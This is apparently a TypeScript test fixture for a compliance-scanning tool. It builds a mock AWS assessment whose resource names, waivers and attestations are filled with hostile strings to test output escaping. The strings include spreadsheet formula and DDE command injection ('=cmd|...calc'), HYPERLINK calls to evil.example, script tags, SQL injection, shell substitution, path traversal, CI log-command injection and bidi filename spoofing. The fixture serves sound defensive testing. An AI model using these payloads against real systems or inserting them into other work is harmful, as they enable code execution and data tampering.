import { type AssessInput, assess } from '../../src/assess/assess.ts';
import { loadShippedCatalog } from '../../src/catalog/load.ts';
import { defaultConfig } from '../../src/config/parse.ts';
import type { Assessment } from '../../src/model/assessment.ts';
import type { Cause } from '../../src/model/cause.ts';
import type { ResourceRef, Result } from '../../src/model/result.ts';
import { type Rule, severities } from '../../src/model/rule.ts';
import type { LedgerCall } from '../../src/model/snapshot.ts';
import type { Waiver } from '../../src/model/waiver.ts';
import { resourceSchemas } from '../../src/providers/schemas.ts';

/** What a stranger may call a resource. The first has everything at once, so that one finding is hostile enough. */
export const hostileNames: readonly string[] = [
  '=HYPERLINK("https://evil.example","x")\r\n\u202egpj.\u001b[31m]]><script>alert(1)</script>&amp;\u0000\ud800 \u{1f3e5}\ufffe,"\'|`@octocat`',
  '<script>alert(1)</script>',
  ']]><![CDATA[ & &#0; &nbsp; <!-- --> <?xml?>',
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '  =1+1',
  '"=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  'invoice\u202efdp.exe',
  '\u2066\u2067isolated\u2069\u2069',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u009b2J',
  'two\nlines',
  'two\r\nlines',
  'separator\u2028and\u2029paragraph\u0085next',
  'high\ud83d',
  '\udc00low',
  'nonchar\uffff\ufffe\ufdd0',
  '\u{1f469}\u200d\u2695\ufe0f \u{1f3e5}\u{1f1ef}\u{1f1f5}',
  '患者データ、（本番）',
  '../../etc/passwd%00?x=1#y z',
  '{{ Name }} $(id) `id` %s %n',
  '__proto__',
  'constructor',
  "'; DROP TABLE results; --",
  '##vso[task.setvariable]::set-output name=x::y',
  ' leading and trailing ',
  '',
];

/** 60 KB of a few kinds of character, with what must be escaped at both ends. */
export const longName = `<&"${'長い name \u{1f3e5} '.repeat(5000).slice(0, 61_440)}=">`;

/** Every this many-th finding is waived, beginning with the fifth. */
export const waivedEach = 5;

const observedAt = '2026-11-22T08:58:00.000Z';
const others = 12;

/**
 * A judged assessment with so many findings and, beside them, a dozen results of each other outcome; or, with 0 findings
 * and `bare`, no result at all. Rules, controls and safeguards are the shipped ones, waivers and counts are worked out as
 * for a real run, and everything a stranger may choose is hostile.
 */
export async function hostileAssessment(findings: number, bare = false): Promise<Assessment> {
  const catalog = await loadShippedCatalog(resourceSchemas);
  const rules = chooseRules(catalog.rules);
  const results: Result[] = [];
  const add = (n: number, outcome: Result['outcome']) => {
    for (let index = 0; index < n; index++) results.push(resultOf(index, outcome, rules));
  };
  add(findings, 'fail');
  for (const outcome of ['pass', 'unknown', 'not-applicable'] as const) add(bare ? 0 : others, outcome);
  return assess({
    catalog,
    rules,
    results,
    manifest: { run: runOf(bare), targets },
    ledger: bare ? [] : ledger,
    config: {
      ...defaultConfig,
      organization: `Acme Health ${hostileNames[0]}`,
      waivers,
      attestations: bare ? [] : attestations,
      timeZone: 'Asia/Tokyo',
    },
    asOf: runOf(bare).asOf,
    tool: { name: 'comply-scan', version: '0.1.0' },
  });
}

/** Two rules of every severity that judge resources of AWS, and two of endpoints. */
function chooseRules(rules: readonly Rule[]): readonly Rule[] {
  const of = (provider: string) => rules.filter(({ resource }) => resource.startsWith(`${provider}/`));
  const aws = severities.flatMap((severity) =>
    of('aws')
      .filter((rule) => rule.severity === severity)
      .slice(0, 2),
  );
  return [...aws, ...of('endpoint').slice(0, 2)];
}

function resultOf(index: number, outcome: Result['outcome'], rules: readonly Rule[]): Result {
  const rule = rules[index % rules.length];
  if (!rule) throw new Error('the catalog has no rule');
  const name = nameOf(index);
  const waived = outcome === 'fail' && index % waivedEach === waivedEach - 1;
  const id = `arn:aws:acme:::${outcome}/${index}/${name}${waived ? '/accepted' : ''}`;
  return {
    rule: rule.id,
    severity: rule.severity,
    outcome,
    resource: { type: rule.resource, id, name, ...placeOf(rule, index) },
    message: { en: `Resource ${name} is not as it should be.`, ja: `リソース ${name} が設定を満たしていない` },
    ...(outcome === 'unknown' && { cause: causeOf(index, name) }),
    observed: [
      { field: `Tags.${name}`, operator: 'equals', expected: 'Enabled', actual: name.slice(0, 256), result: false },
      {
        field: 'Grants',
        operator: 'isNull',
        expected: true,
        actual: [{ [name.slice(0, 40)]: name.slice(0, 40) }, null],
        result: false,
      },
    ],
    observedAt,
  };
}

function nameOf(index: number): string {
  if (index === 9 || index === 4004) return longName;
  return hostileNames[index % hostileNames.length] ?? '';
}

function placeOf({ resource }: Rule, index: number): Pick<ResourceRef, 'target' | 'account' | 'region'> {
  if (resource.startsWith('endpoint/')) return { target: 'web', account: '-', region: '-' };
  return { target: index % 3 === 0 ? '病院' : 'prod', account: '111122223333', region: 'ap-northeast-1' };
}

function causeOf(index: number, code: string): Cause {
  if (index % 2 === 0) return { kind: 'timeout', call: 's3:GetBucketLogging' };
  return { kind: 'denied', call: 's3:GetBucketLogging', permission: 's3:GetBucketLogging', code: code.slice(0, 200) };
}

const account = { id: '111122223333', name: hostileNames[0] ?? '', regions: ['ap-northeast-1'] };
const targets: AssessInput['manifest']['targets'] = [
  { name: 'prod', provider: 'aws', id: '111122223333', regions: ['ap-northeast-1'], accounts: [account] },
  { name: '病院', provider: 'aws', id: '111122223333', regions: ['ap-northeast-1'] },
  { name: 'web', provider: 'endpoint', id: 'web', regions: [] },
];

/** A bare run is a whole one; the other could not read something. */
function runOf(bare: boolean): Assessment['run'] {
  return {
    id: '01JD9ZK4W8Q2',
    startedAt: '2026-11-22T08:55:12.000Z',
    finishedAt: '2026-11-22T09:00:00.000Z',
    asOf: '2026-11-22T09:00:00.000Z',
    complete: bare,
    interrupted: false,
  };
}

const ledger: readonly LedgerCall[] = Array.from({ length: others }, (_, index) => ({
  kind: 'call',
  target: 'prod',
  account: '111122223333',
  region: 'ap-northeast-1',
  service: 's3',
  call: 's3:GetBucketLogging',
  permission: 's3:GetBucketLogging',
  subject: nameOf(index),
  pages: 0,
  attempts: 1,
  requestIds: [],
  outcome: 'failed',
  cause: causeOf(index, nameOf(index)),
}));

const waivers: readonly Waiver[] = [
  {
    place: 'compliance/waivers.yaml:3',
    rule: '*',
    resources: ['*/accepted'],
    type: 'compensating-control',
    owner: `sre@acme.example${hostileNames[1]}`,
    approvedBy: 'ciso@acme.example',
    reason: `Accepted: ${hostileNames.join(' ')}`,
    expires: '2027-03-31',
    compensating: `=1+1 ${hostileNames[0]}`,
    allowBroad: true,
  },
  {
    place: 'compliance/waivers.yaml:12',
    rule: 'aws/*',
    resources: ['no such resource'],
    type: 'false-positive',
    owner: 'sre@acme.example',
    approvedBy: 'ciso@acme.example',
    reason: '＝unused',
    expires: '2027-03-31',
  },
];

const attestations = [
  {
    place: 'compliance/attestations.yaml:2',
    control: 'hipaa:164.308(a)(2)',
    statement: `=Named by the board. ${hostileNames[0]}`,
    person: '鈴木 一郎',
    role: `+CISO${hostileNames[2]}`,
    date: '2026-04-01',
    validUntil: '2027-03-31',
  },
];
